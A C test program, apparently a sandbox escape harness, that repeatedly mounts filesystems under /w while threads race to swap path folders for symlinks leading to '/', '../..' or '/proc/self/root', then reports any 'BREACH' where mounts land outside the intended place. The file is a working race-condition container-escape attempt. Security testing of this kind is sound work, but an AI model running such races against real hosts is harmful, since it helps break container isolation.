/*
 * swap COUNT TYPE: mounts COUNT times below /w. Meanwhile other threads exchange the folders on the way for links that
 * lead up and out, and move the folders elsewhere. Prints where the mounts are.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

/* Each link leads to a folder that exists in the container, on the host, and where a worker comes from. */
static const char *const links[] = {"/", "../../../../../../../../../..", "/proc/self/root", "/w/../.."};

static const char *const paths[] = {
    "/w/swapped/proc", "swapped/proc", "/w/moved/in/../../../../../../../../w/swapped/proc",
    "/w/moved/in/../../proc", "moved/in/../../../proc", "/proc/self/cwd/swapped/proc",
};

static void *exchange(void *unused)
{
    for (unsigned i = 0;; i++) {
        exchange_names("/w/swapped", "/w/link");
        if (i % 64 == 0) {
            exchange_names("/w/link", "/w/other");
            if (unlink("/w/other") == 0 && symlink(links[i / 64 % 4], "/w/other") < 0)
                fail("a link");
        }
    }
    return unused;
}

static void *move(void *unused)
{
    for (;;) {
        renameat(AT_FDCWD, "/w/moved/in", AT_FDCWD, "/in");
        renameat(AT_FDCWD, "/in", AT_FDCWD, "/w/moved/in");
    }
    return unused;
}

static void make(const char *path)
{
    if (mkdir(path, 0755) < 0 && errno != EEXIST)
        fail(path);
}

static void try(const char *path, const char *type)
{
    struct seen_mount found[32];
    int missing;

    int result = mount("none", path, type, MS_NOSUID | MS_NODEV, NULL);
    if (result < 0)
        saw("error %d", errno);
    int count = new_mounts(found, 32, &missing);
    if ((result < 0) != (count == 0))
        saw("BREACH: result %d of a mount on %s, and %d mounts", result, path, count);
    if (count > 0)
        saw("made %s %s", found[0].place, found[0].type);
    take_off_new_mounts();
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    make("/w");
    make("/w/proc");
    make("/w/moved");
    make("/w/moved/in");
    make("/w/swapped");
    make("/w/swapped/proc");
    if (symlink(links[0], "/w/link") < 0 || symlink(links[1], "/w/other") < 0 || chdir("/w") < 0)
        fail("preparing");
    remember_mounts();
    start_thread(exchange, NULL);
    start_thread(move, NULL);
    for (int i = 0; i < atoi(argv[1]); i++)
        try(paths[(size_t)i % (sizeof paths / sizeof *paths)], argv[2]);
    report();
    return 0;
}
